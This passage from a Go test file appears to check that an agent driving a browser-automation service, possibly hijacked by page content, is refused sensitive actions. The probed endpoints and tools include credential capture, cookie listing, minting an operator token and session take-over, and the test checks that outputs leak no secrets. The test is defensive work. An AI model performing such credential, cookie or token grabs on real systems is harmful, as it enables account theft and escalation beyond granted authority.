			continue // a stream; refused as the others are, and tested with them
		}
		h.clean(t, "refused", h.curl(t, "agent").get(path))
	}
	for _, p := range []probe{
		{"POST", "/v1/credentials/check", `{"domain": "localhost"}`}, {"POST", "/v1/policy/explain", `{"verb": "page.execute"}`}, {"POST", "/v1/verbs/cookie.list", `{}`}, {"POST", "/v1/verbs/page.content", `{}`},
		{"POST", "/v1/verbs/credential.capture", `{"domain": "localhost"}`}, {"POST", "/v1/verbs/audit.query", `{}`}, {"POST", "/v1/tokens", `{"name": "mine", "role": "operator"}`}, {"POST", "/v1/sessions/" + h.session + "/resume", `{}`},
		{"POST", "/v1/sessions/" + h.session + "/take", `{}`}, {"GET", "/v1/artifacts/none", ""},
	} {
		h.clean(t, "refused", h.curl(t, "agent").do(p.method, p.path, p.body))
	}
}

// tools asks the same over MCP: tools, resources, prompts and completions.
func (h *hijacked) tools(t *testing.T) {
	h.fresh(t)
	h.goTo(t, h.victim+"/keys")
	a := h.streamable(t, h.token("agent"), "2025-11-25")
	text := func(kind string, v any, err error) {
		t.Helper()
		b, _ := json.Marshal(v)
		if err != nil {
			b = append(b, err.Error()...)
		}
		h.clean(t, "mcp", answer{what: kind, body: b})
	}
	for _, tool := range strings.Fields("browser_snapshot browser_extract browser_find browser_console browser_network browser_tabs browser_markdown browser_links browser_cookies browser_content browser_session browser_screenshot") {
		result, err := a.CallTool(t.Context(), &sdk.CallToolParams{Name: tool, Arguments: object{"session": h.session}})
		if err != nil {
			text(tool, nil, err)
			continue
		}
		if tool == "browser_screenshot" {
			result.Content = nil
		}
		text(tool, result, nil)
	}
	resources, err := a.ListResources(t.Context(), nil)
	text("resources", resources, err)
	if err == nil {
		for _, r := range resources.Resources {
			if strings.Contains(r.MIMEType, "image") || strings.Contains(r.MIMEType, "pdf") {
				continue
			}
			read, err := a.ReadResource(t.Context(), readOf(r.URI))
			text("resource "+r.URI, read, err)
		}
	}
	templates, err := a.ListResourceTemplates(t.Context(), nil)
	text("templates", templates, err)
	prompts, err := a.ListPrompts(t.Context(), nil)
	text("prompts", prompts, err)
}

func readOf(uri string) *sdk.ReadResourceParams { return &sdk.ReadResourceParams{URI: uri} }
